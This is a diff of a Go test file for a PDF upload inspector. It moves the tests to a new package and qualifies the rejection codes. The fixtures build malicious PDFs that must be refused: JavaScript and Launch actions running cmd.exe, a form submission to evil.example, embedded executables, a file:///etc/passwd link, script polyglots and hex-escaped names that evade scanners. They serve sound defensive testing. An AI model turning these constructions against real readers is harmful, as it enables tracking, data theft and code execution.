@@ -1,9 +1,10 @@
-package idcheck
+package inspect
 
 import (
 	"bytes"
 	"context"
 	"fmt"
+	"github.com/privacyloket/privacyloket/shared/idcheck"
 	"io"
 	"strings"
 	"testing"
@@ -22,7 +23,7 @@ func TestInspectPDFAccepts(t *testing.T) {
 	}{
 		{"one page", buildPDF(pdfSpec{}), 1},
 		{"two pages", buildPDF(pdfSpec{pages: 2}), 2},
-		{"the page limit", buildPDF(pdfSpec{pages: MaxPDFPages}), MaxPDFPages},
+		{"the page limit", buildPDF(pdfSpec{pages: idcheck.MaxPDFPages}), idcheck.MaxPDFPages},
 		{"pdf 1.4 header", buildPDF(pdfSpec{header: "%PDF-1.4"}), 1},
 		{"open action to a page", buildPDF(pdfSpec{catalog: "/OpenAction [5 0 R /Fit]"}), 1},
 		{"open action goto", buildPDF(pdfSpec{catalog: "/OpenAction << /S /GoTo /D [5 0 R /Fit] >>"}), 1},
@@ -52,7 +53,7 @@ func TestInspectPDFAccepts(t *testing.T) {
 			if err != nil {
 				t.Fatalf("Inspect() = %v", err)
 			}
-			if got, want := doc.Kind, KindPDF; got != want {
+			if got, want := doc.Kind, idcheck.KindPDF; got != want {
 				t.Errorf("Kind = %q, want %q", got, want)
 			}
 			if got, want := doc.Pages, tt.pages; got != want {
@@ -128,66 +129,66 @@ func TestInspectPDFRefuses(t *testing.T) {
 		data []byte
 		want string
 	}{
-		{"encrypted with a user password", encryptedPDF(t, "geheim"), CodePDFEncrypted},
-		{"encrypted with an empty user password", encryptedPDF(t, ""), CodePDFEncrypted},
-		{"encrypt entry in the trailer", buildPDF(pdfSpec{trailer: "/Encrypt << /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>"}), CodePDFEncrypted},
+		{"encrypted with a user password", encryptedPDF(t, "geheim"), idcheck.CodePDFEncrypted},
+		{"encrypted with an empty user password", encryptedPDF(t, ""), idcheck.CodePDFEncrypted},
+		{"encrypt entry in the trailer", buildPDF(pdfSpec{trailer: "/Encrypt << /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>"}), idcheck.CodePDFEncrypted},
 
-		{"javascript open action", buildPDF(pdfSpec{catalog: "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"}), CodePDFActiveContent},
+		{"javascript open action", buildPDF(pdfSpec{catalog: "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"}), idcheck.CodePDFActiveContent},
 		{"javascript name tree", buildPDF(pdfSpec{catalog: "/Names << /JavaScript << /Names [(a) 6 0 R] >> >>",
-			extra: []string{"<< /S /JavaScript /JS (this.submitForm('https://evil.example')) >>"}}), CodePDFActiveContent},
+			extra: []string{"<< /S /JavaScript /JS (this.submitForm('https://evil.example')) >>"}}), idcheck.CodePDFActiveContent},
 		{"javascript in an indirect stream", buildPDF(pdfSpec{catalog: "/OpenAction 6 0 R",
-			extra: []string{"<< /S /JavaScript /JS 7 0 R >>", streamObject("", []byte("app.alert(1)"))}}), CodePDFActiveContent},
-		{"name written with hex escapes", buildPDF(pdfSpec{catalog: "/OpenAction << /S /J#61va#53cript /J#53 (app.alert(1)) >>"}), CodePDFActiveContent},
-		{"launch action", buildPDF(pdfSpec{catalog: "/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"}), CodePDFActiveContent},
+			extra: []string{"<< /S /JavaScript /JS 7 0 R >>", streamObject("", []byte("app.alert(1)"))}}), idcheck.CodePDFActiveContent},
+		{"name written with hex escapes", buildPDF(pdfSpec{catalog: "/OpenAction << /S /J#61va#53cript /J#53 (app.alert(1)) >>"}), idcheck.CodePDFActiveContent},
+		{"launch action", buildPDF(pdfSpec{catalog: "/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"}), idcheck.CodePDFActiveContent},
 		{"launch in a link", buildPDF(pdfSpec{page: "/Annots [6 0 R]",
-			extra: []string{"<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /Launch /F (evil.exe) >> >>"}}), CodePDFActiveContent},
+			extra: []string{"<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /Launch /F (evil.exe) >> >>"}}), idcheck.CodePDFActiveContent},
 		{"embedded file", buildPDF(pdfSpec{catalog: "/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>",
 			extra: []string{"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>",
-				streamObject("/Type /EmbeddedFile", []byte("MZ payload"))}}), CodePDFActiveContent},
+				streamObject("/Type /EmbeddedFile", []byte("MZ payload"))}}), idcheck.CodePDFActiveContent},
 		{"file attachment annotation", buildPDF(pdfSpec{page: "/Annots [6 0 R]",
 			extra: []string{"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 7 0 R >>",
-				"<< /Type /Filespec /F (x.zip) >>"}}), CodePDFActiveContent},
-		{"page additional actions", buildPDF(pdfSpec{page: "/AA << /O << /S /URI /URI (https://tracker.example/opened) >> >>"}), CodePDFActiveContent},
-		{"uri open action", buildPDF(pdfSpec{catalog: "/OpenAction << /S /URI /URI (https://tracker.example/opened) >>"}), CodePDFActiveContent},
-		{"goto open action chaining a uri", buildPDF(pdfSpec{catalog: "/OpenAction << /S /GoTo /D [5 0 R /Fit] /Next << /S /URI /URI (https://x.example) >> >>"}), CodePDFActiveContent},
+				"<< /Type /Filespec /F (x.zip) >>"}}), idcheck.CodePDFActiveContent},
+		{"page additional actions", buildPDF(pdfSpec{page: "/AA << /O << /S /URI /URI (https://tracker.example/opened) >> >>"}), idcheck.CodePDFActiveContent},
+		{"uri open action", buildPDF(pdfSpec{catalog: "/OpenAction << /S /URI /URI (https://tracker.example/opened) >>"}), idcheck.CodePDFActiveContent},
+		{"goto open action chaining a uri", buildPDF(pdfSpec{catalog: "/OpenAction << /S /GoTo /D [5 0 R /Fit] /Next << /S /URI /URI (https://x.example) >> >>"}), idcheck.CodePDFActiveContent},
 		{"rich media annotation", buildPDF(pdfSpec{page: "/Annots [6 0 R]",
-			extra: []string{"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"}}), CodePDFActiveContent},
+			extra: []string{"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"}}), idcheck.CodePDFActiveContent},
 		{"xfa form", buildPDF(pdfSpec{catalog: "/AcroForm << /Fields [] /XFA 6 0 R >>",
-			extra: []string{streamObject("", []byte("<xdp:xdp/>"))}}), CodePDFActiveContent},
+			extra: []string{streamObject("", []byte("<xdp:xdp/>"))}}), idcheck.CodePDFActiveContent},
 		{"submit form", buildPDF(pdfSpec{page: "/Annots [6 0 R]",
-			extra: []string{"<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /A << /S /SubmitForm /F (https://evil.example) >> >>"}}), CodePDFActiveContent},
-		{"import data", buildPDF(pdfSpec{catalog: "/OpenAction << /S /ImportData /F (data.fdf) >>"}), CodePDFActiveContent},
+			extra: []string{"<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /A << /S /SubmitForm /F (https://evil.example) >> >>"}}), idcheck.CodePDFActiveContent},
+		{"import data", buildPDF(pdfSpec{catalog: "/OpenAction << /S /ImportData /F (data.fdf) >>"}), idcheck.CodePDFActiveContent},
 		{"javascript: link", buildPDF(pdfSpec{page: "/Annots [6 0 R]",
-			extra: []string{"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI ( JaVa\\tScript:app.alert\\(1\\)) >> >>"}}), CodePDFActiveContent},
+			extra: []string{"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI ( JaVa\\tScript:app.alert\\(1\\)) >> >>"}}), idcheck.CodePDFActiveContent},
 		{"file: link", buildPDF(pdfSpec{page: "/Annots [6 0 R]",
-			extra: []string{"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI <66696C653A2F2F2F6574632F706173737764> >> >>"}}), CodePDFActiveContent},
+			extra: []string{"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI <66696C653A2F2F2F6574632F706173737764> >> >>"}}), idcheck.CodePDFActiveContent},
 		{"rich text with a script", buildPDF(pdfSpec{page: "/Annots [6 0 R]",
-			extra: []string{strings.Replace(freeTextAnnot, "<p>", "<p><script>alert(1)</script>", 1)}}), CodePDFActiveContent},
+			extra: []string{strings.Replace(freeTextAnnot, "<p>", "<p><script>alert(1)</script>", 1)}}), idcheck.CodePDFActiveContent},
 		{"associated embedded file", buildPDF(pdfSpec{catalog: "/AF [6 0 R]",
 			extra: []string{"<< /Type /Filespec /F (a.xml) /AFRelationship /Data /EF << /F 7 0 R >> >>",
-				streamObject("/Subtype /text#2Fxml", []byte("<a/>"))}}), CodePDFActiveContent},
-		{"javascript in an object missing from the xref", buildPDF(pdfSpec{orphan: "<< /S /JavaScript /JS (app.alert(1)) >>"}), CodePDFActiveContent},
-		{"javascript hidden in an object stream", objectStreamPDF(t), CodePDFActiveContent},
+				streamObject("/Subtype /text#2Fxml", []byte("<a/>"))}}), idcheck.CodePDFActiveContent},
+		{"javascript in an object missing from the xref", buildPDF(pdfSpec{orphan: "<< /S /JavaScript /JS (app.alert(1)) >>"}), idcheck.CodePDFActiveContent},
+		{"javascript hidden in an object stream", objectStreamPDF(t), idcheck.CodePDFActiveContent},
 
-		{"polyglot with a zip appended", append(bytes.Clone(good), zipArchive(t)...), CodePDFActiveContent},
-		{"polyglot with html appended", append(bytes.Clone(good), "<html><script>alert(1)</script></html>"...), CodePDFActiveContent},
-		{"polyglot with a zip inside a stream", buildPDF(pdfSpec{extra: []string{streamObject("", zipArchive(t))}}), CodePDFActiveContent},
-		{"polyglot with a jpeg appended", append(bytes.Clone(good), encodeJPEG(t, quadrants(200, 200))...), CodePDFActiveContent},
-		{"polyglot with a png signature in a dictionary", buildPDF(pdfSpec{extra: []string{"<< /X (\x89PNG\r\n\x1a\n) >>"}}), CodePDFActiveContent},
-		{"polyglot with upper-case html appended", append(bytes.Clone(good), "\n<HTML><SCRIPT>alert(1)</SCRIPT>"...), CodePDFActiveContent},
-		{"polyglot with html in a dictionary", buildPDF(pdfSpec{extra: []string{"<< /X (<script>alert(1)</script>) >>"}}), CodePDFActiveContent},
+		{"polyglot with a zip appended", append(bytes.Clone(good), zipArchive(t)...), idcheck.CodePDFActiveContent},
+		{"polyglot with html appended", append(bytes.Clone(good), "<html><script>alert(1)</script></html>"...), idcheck.CodePDFActiveContent},
+		{"polyglot with a zip inside a stream", buildPDF(pdfSpec{extra: []string{streamObject("", zipArchive(t))}}), idcheck.CodePDFActiveContent},
+		{"polyglot with a jpeg appended", append(bytes.Clone(good), encodeJPEG(t, quadrants(200, 200))...), idcheck.CodePDFActiveContent},
+		{"polyglot with a png signature in a dictionary", buildPDF(pdfSpec{extra: []string{"<< /X (\x89PNG\r\n\x1a\n) >>"}}), idcheck.CodePDFActiveContent},
+		{"polyglot with upper-case html appended", append(bytes.Clone(good), "\n<HTML><SCRIPT>alert(1)</SCRIPT>"...), idcheck.CodePDFActiveContent},
+		{"polyglot with html in a dictionary", buildPDF(pdfSpec{extra: []string{"<< /X (<script>alert(1)</script>) >>"}}), idcheck.CodePDFActiveContent},
 
-		{"too many pages", buildPDF(pdfSpec{pages: MaxPDFPages + 1}), CodePDFTooManyPages},
+		{"too many pages", buildPDF(pdfSpec{pages: idcheck.MaxPDFPages + 1}), idcheck.CodePDFTooManyPages},
 
-		{"header only", []byte("%PDF-1.7\n"), CodePDFCorrupt},
-		{"header and eof", []byte("%PDF-1.7\n%%EOF\n"), CodePDFCorrupt},
-		{"no %%EOF", withoutEOF, CodePDFCorrupt},
-		{"junk after %%EOF", append(bytes.Clone(good), "trailing junk"...), CodePDFCorrupt},
-		{"truncated", good[:len(good)/2], CodePDFCorrupt},
-		{"stream never ends", []byte("%PDF-1.7\n1 0 obj\n<< /Length 99 >>\nstream\n/JavaScript\n%%EOF\n"), CodePDFCorrupt},
+		{"header only", []byte("%PDF-1.7\n"), idcheck.CodePDFCorrupt},
+		{"header and eof", []byte("%PDF-1.7\n%%EOF\n"), idcheck.CodePDFCorrupt},
+		{"no %%EOF", withoutEOF, idcheck.CodePDFCorrupt},
+		{"junk after %%EOF", append(bytes.Clone(good), "trailing junk"...), idcheck.CodePDFCorrupt},
+		{"truncated", good[:len(good)/2], idcheck.CodePDFCorrupt},
+		{"stream never ends", []byte("%PDF-1.7\n1 0 obj\n<< /Length 99 >>\nstream\n/JavaScript\n%%EOF\n"), idcheck.CodePDFCorrupt},
 		{"no pages", []byte(strings.Join([]string{"%PDF-1.7", "1 0 obj", "<< /Type /Catalog /Pages 2 0 R >>", "endobj",
 			"2 0 obj", "<< /Type /Pages /Kids [] /Count 0 >>", "endobj", "xref", "0 3", "0000000000 65535 f ",
-			"0000000009 00000 n ", "0000000058 00000 n ", "trailer", "<< /Size 3 /Root 1 0 R >>", "startxref", "110", "%%EOF", ""}, "\n")), CodePDFCorrupt},
+			"0000000009 00000 n ", "0000000058 00000 n ", "trailer", "<< /Size 3 /Root 1 0 R >>", "startxref", "110", "%%EOF", ""}, "\n")), idcheck.CodePDFCorrupt},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -211,8 +212,8 @@ func TestWalkFindsWhatTheByteScanCannot(t *testing.T) {
 	if got := scanPDFBytes(hidden); got != "" {
 		t.Fatalf("scanPDFBytes() = %q: the fixture's script is not hidden", got)
 	}
-	if _, err := Inspect(hidden); rejectionCode(t, err) != CodePDFActiveContent {
-		t.Errorf("Inspect() = %v, want %s", err, CodePDFActiveContent)
+	if _, err := Inspect(hidden); rejectionCode(t, err) != idcheck.CodePDFActiveContent {
+		t.Errorf("Inspect() = %v, want %s", err, idcheck.CodePDFActiveContent)
 	}
 }
 
@@ -232,18 +233,18 @@ func TestWalkPDF(t *testing.T) {
 		{"resource category stored as its own object", pdfSpec{resources: "/XObject 6 0 R",
 			extra: []string{"<< /AA 7 0 R /JS 7 0 R >>", streamObject("/Type /XObject /Subtype /Form /BBox [0 0 1 1]", []byte("0 0 m"))}}, ""},
 		{"annotation posing as a font dictionary", pdfSpec{resources: "/Font << /F1 3 0 R >> /XObject 6 0 R",
-			page: "/Annots [6 0 R]", extra: []string{uriAction}}, CodePDFActiveContent},
+			page: "/Annots [6 0 R]", extra: []string{uriAction}}, idcheck.CodePDFActiveContent},
 		{"annotation posing as a font with escaped keys", pdfSpec{resources: "/XObject 6 0 R",
-			page: "/Annots [6 0 R]", extra: []string{strings.NewReplacer("/Subtype", "/Sub#74ype", "/Type", "/T#79pe").Replace(uriAction)}}, CodePDFActiveContent},
-		{"additional actions", pdfSpec{page: "/AA << /O << /S /URI /URI (https://x.example) >> >>"}, CodePDFActiveContent},
-		{"named open action", pdfSpec{catalog: "/OpenAction << /S /Named /N /Print >>"}, CodePDFActiveContent},
-		{"open action without a type", pdfSpec{catalog: "/OpenAction << /D [5 0 R /Fit] >>"}, CodePDFActiveContent},
+			page: "/Annots [6 0 R]", extra: []string{strings.NewReplacer("/Subtype", "/Sub#74ype", "/Type", "/T#79pe").Replace(uriAction)}}, idcheck.CodePDFActiveContent},
+		{"additional actions", pdfSpec{page: "/AA << /O << /S /URI /URI (https://x.example) >> >>"}, idcheck.CodePDFActiveContent},
+		{"named open action", pdfSpec{catalog: "/OpenAction << /S /Named /N /Print >>"}, idcheck.CodePDFActiveContent},
+		{"open action without a type", pdfSpec{catalog: "/OpenAction << /D [5 0 R /Fit] >>"}, idcheck.CodePDFActiveContent},
 		{"goto open action", pdfSpec{catalog: "/OpenAction << /S /GoTo /D [5 0 R /Fit] >>"}, ""},
-		{"3D annotation", pdfSpec{page: "/Annots [6 0 R]", extra: []string{"<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] >>"}}, CodePDFActiveContent},
-		{"sound action as a name value", pdfSpec{page: "/Annots [6 0 R]", extra: []string{"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Sound >> >>"}}, CodePDFActiveContent},
-		{"action type by reference", pdfSpec{page: "/Annots [6 0 R]", extra: []string{"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S 7 0 R /F (calc.exe) >> >>", "/Launch"}}, CodePDFActiveContent},
-		{"screen annotation", pdfSpec{page: "/Annots [6 0 R]", extra: []string{"<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] >>"}}, CodePDFActiveContent},
-		{"file specification with an embedded file", pdfSpec{catalog: "/Foo 6 0 R", extra: []string{"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>", streamObject("", []byte("MZ"))}}, CodePDFActiveContent},
+		{"3D annotation", pdfSpec{page: "/Annots [6 0 R]", extra: []string{"<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] >>"}}, idcheck.CodePDFActiveContent},
+		{"sound action as a name value", pdfSpec{page: "/Annots [6 0 R]", extra: []string{"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Sound >> >>"}}, idcheck.CodePDFActiveContent},
+		{"action type by reference", pdfSpec{page: "/Annots [6 0 R]", extra: []string{"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S 7 0 R /F (calc.exe) >> >>", "/Launch"}}, idcheck.CodePDFActiveContent},
+		{"screen annotation", pdfSpec{page: "/Annots [6 0 R]", extra: []string{"<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] >>"}}, idcheck.CodePDFActiveContent},
+		{"file specification with an embedded file", pdfSpec{catalog: "/Foo 6 0 R", extra: []string{"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>", streamObject("", []byte("MZ"))}}, idcheck.CodePDFActiveContent},
 		{"blend mode /Screen", pdfSpec{resources: "/ExtGState << /GS1 << /BM /Screen >> >>"}, ""},
 		{"a sound as a resource name", pdfSpec{resources: "/ExtGState << /Sound << /BM /Normal >> >>"}, ""},
 		{"usage rights allowing embedded files", pdfSpec{catalog: "/Perms << /UR3 6 0 R >>", extra: []string{
@@ -319,7 +320,7 @@ func TestInspectPDFActiveAnnotationInObjectStream(t *testing.T) {
 				}
 				doc, err := Inspect(pdf)
 				if listing == listedInXRefStream {
-					if got, want := rejectionCode(t, err), CodePDFActiveContent; got != want {
+					if got, want := rejectionCode(t, err), idcheck.CodePDFActiveContent; got != want {
 						t.Errorf("Inspect() code = %q, want %q", got, want)
 					}
 				}
@@ -354,8 +355,8 @@ func TestCheckRewrittenPDF(t *testing.T) {
 		t.Errorf("checkRewrittenPDF(sanitised) = %q, want accepted", got)
 	}
 	harmless := objStmPDFWith(t, "", "/Annots [6 0 R]", "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] >>")
-	if got := checkRewrittenPDF(context.Background(), harmless); got != CodePDFActiveContent {
-		t.Errorf("checkRewrittenPDF(file with an object stream) = %q, want %q", got, CodePDFActiveContent)
+	if got := checkRewrittenPDF(context.Background(), harmless); got != idcheck.CodePDFActiveContent {
+		t.Errorf("checkRewrittenPDF(file with an object stream) = %q, want %q", got, idcheck.CodePDFActiveContent)
 	}
 }
 
@@ -379,8 +380,8 @@ func TestInspectPDFRefusesHugeObjectNumbers(t *testing.T) {
 				}
 				return
 			}
-			if got := rejectionCode(t, err); got != CodePDFCorrupt {
-				t.Errorf("Inspect() code = %q, want %q", got, CodePDFCorrupt)
+			if got := rejectionCode(t, err); got != idcheck.CodePDFCorrupt {
+				t.Errorf("Inspect() code = %q, want %q", got, idcheck.CodePDFCorrupt)
 			}
 		})
 	}
